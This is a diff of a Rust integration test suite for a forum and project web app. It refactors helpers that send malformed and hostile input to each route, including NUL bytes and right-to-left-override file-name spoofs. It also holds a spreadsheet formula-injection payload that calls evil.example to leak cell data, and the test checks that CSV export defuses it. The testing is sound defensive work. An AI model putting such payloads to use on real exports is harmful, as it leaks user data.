@@ -13,8 +13,7 @@
 //! `src/api/mod.rs` or a form added to `src/web/mod.rs` without a line here
 //! fails [`the_route_tables_cover_the_router`].
 
-use super::forums::{teacher, PASSWORD};
-use super::projects::logged_in;
+use super::support::client::{Answer, Client, PASSWORD};
 use super::support::*;
 use serde_json::{json, Value};
 use std::collections::BTreeSet;
@@ -265,38 +264,6 @@ fn params_of(template: &str) -> Vec<&str> {
         .collect()
 }
 
-/// An answer of the API: status, `Content-Type` and the parsed body.
-struct Answer {
-    status: u16,
-    content_type: String,
-    body: String,
-}
-
-impl Answer {
-    async fn of(response: reqwest::Response) -> Answer {
-        let status = response.status().as_u16();
-        let content_type = response
-            .headers()
-            .get("content-type")
-            .and_then(|v| v.to_str().ok())
-            .unwrap_or_default()
-            .to_string();
-        let body = response.text().await.unwrap_or_default();
-        Answer {
-            status,
-            content_type,
-            body,
-        }
-    }
-
-    fn code(&self) -> String {
-        serde_json::from_str::<Value>(&self.body)
-            .ok()
-            .and_then(|v| v["error"]["code"].as_str().map(str::to_string))
-            .unwrap_or_default()
-    }
-}
-
 /// A stable snake_case code.
 fn is_code(code: &str) -> bool {
     !code.is_empty() && code.chars().all(|c| c.is_ascii_lowercase() || c == '_')
@@ -309,18 +276,18 @@ fn api_refused(what: &str, answer: &Answer, expected: Option<&str>) {
         (400..500).contains(&answer.status),
         "{what}: {} {}",
         answer.status,
-        answer.body
+        answer.text
     );
     assert!(
         answer.content_type.starts_with("application/json"),
         "{what}: {} {}",
         answer.content_type,
-        answer.body
+        answer.text
     );
     let code = answer.code();
-    assert!(is_code(&code), "{what}: no code in {}", answer.body);
+    assert!(is_code(&code), "{what}: no code in {}", answer.text);
     if let Some(expected) = expected {
-        assert_eq!(code, expected, "{what}: {}", answer.body);
+        assert_eq!(code, expected, "{what}: {}", answer.text);
     }
 }
 
@@ -332,7 +299,7 @@ fn api_survived(what: &str, answer: &Answer) {
         answer.status < 500,
         "{what}: {} {}",
         answer.status,
-        answer.body
+        answer.text
     );
     if answer.status >= 400 && answer.status != 405 {
         api_refused(what, answer, None);
@@ -346,16 +313,16 @@ fn page_refused(what: &str, answer: &Answer, status: Option<u16>) {
         (400..500).contains(&answer.status),
         "{what}: {} {}",
         answer.status,
-        answer.body
+        answer.text
     );
     if let Some(status) = status {
-        assert_eq!(answer.status, status, "{what}: {}", answer.body);
+        assert_eq!(answer.status, status, "{what}: {}", answer.text);
     }
     assert!(
         answer.content_type.starts_with("text/html"),
         "{what}: {} {}",
         answer.content_type,
-        answer.body
+        answer.text
     );
 }
 
@@ -440,157 +407,92 @@ fn malformed_json_bodies() -> Vec<(&'static str, Vec<u8>, &'static str, &'static
     ]
 }
 
-/// Sends one API request.
+/// Sends one API request as `client`.
 async fn api_send(
-    instance: &TestInstance,
+    client: &Client<'_>,
     method: &str,
     path: &str,
-    token: &str,
     body: Option<(&[u8], &str)>,
 ) -> Answer {
     let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
-    let url = instance.url(&format!("/api/v1{path}"));
-    answer_of(|| {
-        let mut request = api_client()
-            .request(method.clone(), &url)
-            .bearer_auth(token);
-        if let Some((bytes, content_type)) = body {
-            request = request
-                .header("content-type", content_type)
-                .body(bytes.to_vec());
-        }
-        request
-    })
-    .await
+    let path = format!("/api/v1{path}");
+    client
+        .send_retried(|| {
+            let mut request = client.build(method.clone(), &path);
+            if let Some((bytes, content_type)) = body {
+                request = request
+                    .header("content-type", content_type)
+                    .body(bytes.to_vec());
+            }
+            request
+        })
+        .await
 }
 
-/// Sends a request and reads its answer. A server that refuses an
-/// oversize body answers before reading it all and closes the connection;
-/// a client still sending may then see the connection reset before it
-/// reads the answer (a race of the sockets, not of the server). Such a
-/// request is sent again, a bounded number of times; a server that never
-/// answers fails the test.
-async fn answer_of(build: impl Fn() -> reqwest::RequestBuilder) -> Answer {
-    let mut last_error = None;
-    for _ in 0..10 {
-        match build().send().await {
-            Ok(response) => return Answer::of(response).await,
-            Err(error) if error.is_request() || error.is_connect() => last_error = Some(error),
-            Err(error) => panic!("{error}"),
-        }
+/// A fresh session of anne for routes that end the session they are sent
+/// with (`None`: anne's own will do).
+async fn session_for<'a>(instance: &'a TestInstance, template: &str) -> Option<Client<'a>> {
+    if template == "/sessions/current" {
+        Some(Client::log_in(instance, "anne").await)
+    } else {
+        None
     }
-    panic!("no answer after 10 attempts: {last_error:?}")
-}
-
-/// A token of `name`, for routes that end the session they are sent with.
-async fn fresh_token(instance: &TestInstance, name: &str) -> String {
-    let session: Value = api_client()
-        .post(instance.url("/api/v1/sessions"))
-        .json(&json!({"login": name, "password": PASSWORD}))
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
-    session["token"].as_str().unwrap().to_string()
 }
 
 /// The instance still serves a page and the API.
 async fn still_alive(instance: &TestInstance, what: &str) {
-    let response = api_client()
-        .get(instance.url("/api/v1/instance"))
-        .send()
-        .await
-        .unwrap_or_else(|error| panic!("{what}: the instance stopped answering: {error}"));
-    assert_eq!(response.status(), 200, "{what}");
-    let response = api_client().get(instance.url("/")).send().await.unwrap();
-    assert_eq!(response.status(), 200, "{what}");
+    let anonymous = Client::anonymous(instance);
+    let answer = anonymous.get("/api/v1/instance").await;
+    assert_eq!(answer.status, 200, "{what}");
+    assert_eq!(anonymous.get("/").await.status, 200, "{what}");
 }
 
-/// An instance with an admin (anne), a teacher (bea), a forum `maths` with
-/// a thread, and a project `eco`.
-async fn prepared(engine: Engine) -> (TestInstance, String, Fixture) {
+/// A fresh instance.
+async fn fresh(engine: Engine) -> TestInstance {
     let (settings, dir) = settings(engine, None);
-    let instance = start(engine, settings, dir).await;
-    let anne = teacher(&instance, "anne", true).await;
-    teacher(&instance, "bea", false).await;
-    let created = api_send(
-        &instance,
-        "POST",
-        "/forums",
-        &anne,
-        Some((
-            json!({"name": "maths", "title": "Maths", "description": "Entre profs"})
-                .to_string()
-                .as_bytes(),
-            "application/json",
-        )),
+    start(engine, settings, dir).await
+}
+
+/// On `instance`: an admin (anne, returned logged in), a teacher (bea), a
+/// forum `maths` with a thread, and a project `eco`.
+async fn prepared(instance: &TestInstance) -> (Client<'_>, Fixture) {
+    let anne = Client::teacher(instance, "anne", true).await;
+    Client::teacher(instance, "bea", false).await;
+    anne.post(
+        "/api/v1/forums",
+        json!({"name": "maths", "title": "Maths", "description": "Entre profs"}),
     )
-    .await;
-    assert_eq!(created.status, 201, "{}", created.body);
-    let thread = api_send(
-        &instance,
-        "POST",
-        "/forums/maths/threads",
-        &anne,
-        Some((
-            json!({"title": "Fractions", "body": "Comment les introduire ?"})
-                .to_string()
-                .as_bytes(),
-            "application/json",
-        )),
+    .await
+    .expect(201);
+    let thread = anne
+        .post_thread("maths", "Fractions", "Comment les introduire ?")
+        .await;
+    let thread_id = thread["id"].as_i64().unwrap();
+    anne.post(
+        "/api/v1/projects",
+        json!({"name": "eco", "title": "Éco-délégués", "description": "Un projet"}),
     )
-    .await;
-    assert_eq!(thread.status, 201, "{}", thread.body);
-    let thread_id = serde_json::from_str::<Value>(&thread.body).unwrap()["id"]
-        .as_i64()
-        .unwrap();
-    let project = api_send(
-        &instance,
-        "POST",
-        "/projects",
-        &anne,
-        Some((
-            json!({"name": "eco", "title": "Éco-délégués", "description": "Un projet"})
-                .to_string()
-                .as_bytes(),
-            "application/json",
-        )),
-    )
-    .await;
-    assert_eq!(project.status, 201, "{}", project.body);
-    (instance, anne, Fixture { thread_id })
+    .await
+    .expect(201);
+    (anne, Fixture { thread_id })
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn every_api_route_and_form_refuses_hostile_input_with_a_code() {
     for engine in engines() {
-        let (instance, anne, fixture) = prepared(engine).await;
+        let instance = fresh(engine).await;
+        let (anne, fixture) = prepared(&instance).await;
 
         for &(method, template, body) in API_ROUTES {
-            let token = if template == "/sessions/current" {
-                fresh_token(&instance, "anne").await
-            } else {
-                anne.clone()
-            };
+            let session = session_for(&instance, template).await;
+            let client = session.as_ref().unwrap_or(&anne);
             let path = concrete(template, &fixture, None);
             // Malformed bodies.
             for (name, bytes, content_type, code) in malformed_json_bodies() {
-                let token = if template == "/sessions/current" {
-                    fresh_token(&instance, "anne").await
-                } else {
-                    token.clone()
-                };
+                let session = session_for(&instance, template).await;
+                let client = session.as_ref().unwrap_or(client);
                 let what = format!("{engine:?} {method} {template}: {name}");
-                let answer = api_send(
-                    &instance,
-                    method,
-                    &path,
-                    &token,
-                    Some((&bytes, content_type)),
-                )
-                .await;
+                let answer = api_send(client, method, &path, Some((&bytes, content_type))).await;
                 match body {
                     Body::Json => api_refused(&what, &answer, Some(code)),
                     Body::Ignored => api_survived(&what, &answer),
@@ -609,7 +511,7 @@ async fn every_api_route_and_form_refuses_hostile_input_with_a_code() {
                 ] {
                     let path = concrete(template, &fixture, Some((param, value)));
                     let what = format!("{engine:?} {method} {path}");
-                    let answer = api_send(&instance, method, &path, &token, None).await;
+                    let answer = api_send(client, method, &path, None).await;
                     match code {
                         Some(code) => api_refused(&what, &answer, Some(code)),
                         None => api_survived(&what, &answer),
@@ -629,8 +531,7 @@ async fn every_api_route_and_form_refuses_hostile_input_with_a_code() {
                 "%zz=%&&=",
             ] {
                 let what = format!("{engine:?} {method} {path}?{query}");
-                let answer =
-                    api_send(&instance, method, &format!("{path}?{query}"), &token, None).await;
+                let answer = api_send(client, method, &format!("{path}?{query}"), None).await;
                 api_survived(&what, &answer);
             }
         }
@@ -639,21 +540,21 @@ async fn every_api_route_and_form_refuses_hostile_input_with_a_code() {
         // The forms, logged in as the admin so that every handler is
         // reached. No case below is well formed, so none takes effect (the
         // log-out form included).
-        let client = logged_in(&instance, "anne").await;
-        let token = page_token(&client, &instance.url("/settings/profile")).await;
+        let client = Client::anonymous(&instance).log_in_pages("anne").await;
+        let token = csrf_token(&client.page("/settings/profile").await);
         for &(template, form) in FORM_ROUTES {
             let path = concrete(template, &fixture, None);
             let send = |path: String, content_type: String, bytes: Vec<u8>| {
-                let client = client.clone();
-                let url = instance.url(&path);
+                let client = &client;
                 async move {
-                    answer_of(|| {
-                        client
-                            .post(&url)
-                            .header("content-type", content_type.clone())
-                            .body(bytes.clone())
-                    })
-                    .await
+                    client
+                        .send_retried(|| {
+                            client
+                                .build(reqwest::Method::POST, &path)
+                                .header("content-type", content_type.clone())
+                                .body(bytes.clone())
+                        })
+                        .await
                 }
             };
             let encoded = "application/x-www-form-urlencoded".to_string();
@@ -779,12 +680,8 @@ async fn every_api_route_and_form_refuses_hostile_input_with_a_code() {
             }
         }
         // Still logged in: no malformed log-out took effect.
-        let response = client
-            .get(instance.url("/settings/profile"))
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(response.status(), 200, "{engine:?}");
+        let answer = client.get("/settings/profile").await;
+        assert_eq!(answer.status, 200, "{engine:?}");
         still_alive(&instance, "after the form sweep").await;
         instance.stop().await;
     }
@@ -861,10 +758,13 @@ async fn fake_server(public_key_pem: String) -> String {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn each_hostile_class_answers_its_own_code() {
     for engine in engines() {
-        let (instance, anne, fixture) = prepared(engine).await;
+        let instance = fresh(engine).await;
+        let (anne, fixture) = prepared(&instance).await;
         let api = |path: &str| instance.url(&format!("/api/v1{path}"));
-        let get = |url: String| async move {
-            Answer::of(api_client().get(url).send().await.unwrap()).await
+        let anonymous = Client::anonymous(&instance);
+        let get = |url: String| {
+            let anonymous = &anonymous;
+            async move { anonymous.get(&url).await }
         };
 
         // Path and query errors on the API: JSON with a code.
@@ -911,15 +811,12 @@ async fn each_hostile_class_answers_its_own_code() {
 
         // U+0000 where no account is needed: log-in, profiles, forums,
         // WebFinger, the directory.
-        let answer = Answer::of(
-            api_client()
-                .post(api("/sessions"))
-                .json(&json!({"login": "an\u{0}ne", "password": PASSWORD}))
-                .send()
-                .await
-                .unwrap(),
-        )
-        .await;
+        let answer = anonymous
+            .post(
+                &api("/sessions"),
+                json!({"login": "an\u{0}ne", "password": PASSWORD}),
+            )
+            .await;
         api_refused("log-in", &answer, Some("invalid_text"));
         for path in [
             "/profiles/an%00ne",
@@ -949,87 +846,51 @@ async fn each_hostile_class_answers_its_own_code() {
         // Unicode format characters leave names, local ones at least.
         let put = |path: &str, body: Value| {
             let url = api(path);
-            let anne = anne.clone();
-            async move {
-                Answer::of(
-                    api_client()
-                        .put(url)
-                        .bearer_auth(anne)
-                        .json(&body)
-                        .send()
-                        .await
-                        .unwrap(),
-                )
-                .await
-            }
+            let anne = &anne;
+            async move { anne.call(reqwest::Method::PUT, &url, Some(body)).await }
         };
         let answer = put(
             "/me/profile",
             json!({"display_name": "\u{FEFF}Anne\u{202E}gpj.exe\u{200B}\u{2066}"}),
         )
         .await;
-        assert_eq!(answer.status, 200, "{}", answer.body);
-        let me: Value = api_client()
-            .get(api("/me"))
-            .bearer_auth(&anne)
-            .send()
-            .await
-            .unwrap()
-            .json()
-            .await
-            .unwrap();
+        assert_eq!(answer.status, 200, "{}", answer.text);
+        let me = anne.get_json(&api("/me")).await;
         assert_eq!(me["profile"]["display_name"], "Annegpj.exe", "{me}");
-        let thread = Answer::of(
-            api_client()
-                .post(api("/forums/maths/threads"))
-                .bearer_auth(&anne)
-                .json(&json!({"title": "rapport\u{202E}fdp.exe", "body": "x"}))
-                .send()
-                .await
-                .unwrap(),
-        )
-        .await;
-        assert_eq!(thread.status, 201, "{}", thread.body);
-        let thread: Value = serde_json::from_str(&thread.body).unwrap();
+        let thread = anne
+            .post(
+                &api("/forums/maths/threads"),
+                json!({"title": "rapport\u{202E}fdp.exe", "body": "x"}),
+            )
+            .await
+            .expect(201);
         assert_eq!(thread["title"], "rapportfdp.exe", "{thread}");
 
         // A formula as a display name is defused in the members CSV.
         let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Anne\")";
         let answer = put("/me/profile", json!({"display_name": formula})).await;
-        assert_eq!(answer.status, 200, "{}", answer.body);
-        let browser = logged_in(&instance, "anne").await;
-        let csv = browser
-            .get(instance.url("/projects/eco/members.csv"))
-            .send()
-            .await
-            .unwrap()
-            .text()
-            .await
-            .unwrap();
+        assert_eq!(answer.status, 200, "{}", answer.text);
+        let browser = Client::anonymous(&instance).log_in_pages("anne").await;
+        let csv = browser.page("/projects/eco/members.csv").await;
         assert!(csv.contains("'=HYPERLINK("), "{csv}");
         assert!(
             !csv.lines()
                 .any(|line| line.starts_with('=') || line.contains(",=") || line.contains(",\"=")),
             "{csv}"
         );
-        let admin_csv = browser
-            .get(instance.url("/admin/users.csv"))
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(admin_csv.status(), 200);
+        let admin_csv = browser.get("/admin/users.csv").await;
+        assert_eq!(admin_csv.status, 200);
 
         // The inbox takes ActivityPub documents only, checked before the
         // signature.
-        let inbox = instance.url("/inbox");
         let post_inbox = |content_type: Option<&'static str>, body: &'static str| {
-            let inbox = inbox.clone();
+            let anonymous = &anonymous;
             async move {
-                let mut request = api_client().post(inbox).body(body);
+                let mut request = anonymous.build(reqwest::Method::POST, "/inbox").body(body);
                 if let Some(content_type) = content_type {
                     request = request.header("content-type", content_type);
                 }
-                Answer::of(request.send().await.unwrap()).await
+                anonymous.send(request).await
             }
         };
         let activity = r#"{"type": "Create", "actor": "http://peer.example/users/x"}"#;
@@ -1039,7 +900,7 @@ async fn each_hostile_class_answers_its_own_code() {
             None,
         ] {
             let answer = post_inbox(content_type, activity).await;
-            assert_eq!(answer.status, 415, "{content_type:?}: {}", answer.body);
+            assert_eq!(answer.status, 415, "{content_type:?}: {}", answer.text);
             assert_eq!(answer.code(), "unsupported_media_type");
         }
         for content_type in [
@@ -1060,15 +921,7 @@ async fn each_hostile_class_answers_its_own_code() {
         // A remote user name that reads as another handle is refused
         // before it is stored; a plain one on the same server is taken,
         // with its display name normalised.
-        let document: Value = api_client()
-            .get(instance.url("/users/anne"))
-            .header("accept", "application/activity+json")
-            .send()
-            .await
-            .unwrap()
-            .json()
-            .await
-            .unwrap();
+        let document = anonymous.get_activity("/users/anne").await.json;
         let pem = document["publicKey"]["publicKeyPem"]
             .as_str()
             .unwrap()
@@ -1077,28 +930,18 @@ async fn each_hostile_class_answers_its_own_code() {
         let host = origin.trim_start_matches("http://").to_string();
         let lookup = |name: &str| {
             let url = api(&format!("/lookup?handle={name}@{host}"));
-            let anne = anne.clone();
-            async move {
-                Answer::of(
-                    api_client()
-                        .get(url)
-                        .bearer_auth(anne)
-                        .send()
-                        .await
-                        .unwrap(),
-                )
-                .await
-            }
+            let anne = &anne;
+            async move { anne.get(&url).await }
         };
         let answer = lookup("bob").await;
-        assert_eq!(answer.status, 200, "{}", answer.body);
-        let bob: Value = serde_json::from_str(&answer.body).unwrap();
+        assert_eq!(answer.status, 200, "{}", answer.text);
+        let bob = answer.json;
         assert_eq!(bob["display_name"], "Nametxt.exe", "{bob}");
         let store = &instance.running.state.domain.store();
         for name in ["alice", "rlo"] {
             let answer = lookup(name).await;
             // The documented answer of a remote that cannot be taken.
-            assert_eq!(answer.status, 502, "{name}: {}", answer.body);
+            assert_eq!(answer.status, 502, "{name}: {}", answer.text);
             assert_eq!(answer.code(), "lookup_failed", "{name}");
             let stored = store
                 .actor_by_ap_id(&format!("{origin}/users/{name}"))
